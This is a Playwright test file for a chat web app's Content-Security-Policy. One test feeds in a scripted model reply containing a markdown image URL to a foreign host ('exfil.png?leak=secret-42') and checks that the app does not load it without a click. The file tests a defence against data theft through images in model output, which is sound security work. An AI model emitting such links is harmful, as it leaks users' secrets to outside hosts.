"""The web app under its Content-Security-Policy in Chromium: nothing is refused while it
streams, renders tool cards, the gauge, the metrics page and the API docs; images of other
sites in model output wait for a click (docs/security.md)."""

from __future__ import annotations

from urllib.parse import urlsplit

from playwright.sync_api import expect

from tests.chat.live import wait_for
from tests.chat.providers.sse_server import openai_text_reply, openai_tool_reply
from tests.web.conftest import COMPLETIONS
from tests.web.test_chat_page import open_new_chat, send

# Runs before every page's own scripts; CSP does not apply to it. Collects what the browser
# refused under the page's policy.
COLLECT_VIOLATIONS = """
window.__violations = [];
document.addEventListener("securitypolicyviolation", (event) => {
  window.__violations.push(`${event.violatedDirective} ${event.blockedURI} ${event.sourceFile}:${event.lineNumber}`);
});
"""


def violations(page) -> list[str]:
    return page.evaluate("window.__violations")


def test_the_web_app_runs_without_a_policy_violation(new_context, daphne, scripted, origins):
    context = new_context()
    context.add_init_script(COLLECT_VIOLATIONS)
    page = context.new_page()
    calls = [("call_list", "list_files", {})]
    scripted.script(
        COMPLETIONS,
        openai_tool_reply(calls),
        openai_text_reply("Listed. **Bold**, `code`:\n\n```python\nprint(1)\n```"),
    )
    open_new_chat(page, daphne)
    send(page, "List the files")
    expect(page.locator("#history .tool-card")).to_have_count(1)
    expect(page.locator("#history .md strong")).to_have_text("Bold")
    expect(page.locator("#context-gauge rect")).to_have_count(1)
    assert violations(page) == []

    page.goto(daphne.url + "/metrics/")
    expect(page.locator(".metrics-chart svg").first).to_be_visible()
    assert violations(page) == []

    page.goto(daphne.url + "/api/docs")  # Swagger UI: its scripts ran and rendered
    expect(
        page.locator("#swagger-ui .swagger-ui h4, #swagger-ui .swagger-ui .opblock").first
    ).to_be_visible()
    assert violations(page) == []

    login = new_context()
    login.clear_cookies()
    login.add_init_script(COLLECT_VIOLATIONS)
    login_page = login.new_page()
    login_page.goto(daphne.url + "/login/")
    expect(login_page.locator("button[type=submit]")).to_have_css(
        "background-color",
        "rgb(37, 99, 235)",  # the stylesheet applies (no inline <style>)
    )
    assert violations(login_page) == []


def test_other_sites_images_wait_for_a_click(new_context, daphne, scripted, origins):
    context = new_context()
    context.add_init_script(COLLECT_VIOLATIONS)
    page = context.new_page()
    exfil = f"{origins.foreign.url}/exfil.png?leak=secret-42"
    allowed = f"{origins.allowed.url}/chart.png?n=1"  # DISPATCH_IMAGE_ORIGINS of the stack
    scripted.script(
        COMPLETIONS,
        openai_text_reply(
            f"Here: ![stolen]({exfil}) ![chart]({allowed}) ![dot](data:image/png;base64,"
            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)"
        ),
    )
    open_new_chat(page, daphne)
    send(page, "Show me")

    placeholder = page.locator("#history .md a.image-link")
    expect(placeholder).to_have_text("Image from 127.0.0.1: stolen")
    images = page.locator("#history .md img")
    expect(images).to_have_count(2)
    # The allowed origin's image and the data: image did load, so a loading <img> for the
    # other site would have been asked for by now: it was not.
    wait_for(lambda: "/chart.png?n=1" in origins.allowed.hits, "the allowed image")
    wait_for(
        lambda: page.evaluate(
            "[...document.querySelectorAll('#history .md img')].every((i) => i.naturalWidth === 1)"
        ),
        "both images decoded",
    )
    assert not [hit for hit in origins.foreign.hits if hit.startswith("/exfil.png")]

    with page.expect_popup() as opened:
        placeholder.click()
    popup = opened.value
    popup.wait_for_load_state()
    assert popup.url == exfil
    assert urlsplit(exfil).path + "?" + urlsplit(exfil).query in origins.foreign.hits
    assert violations(page) == []
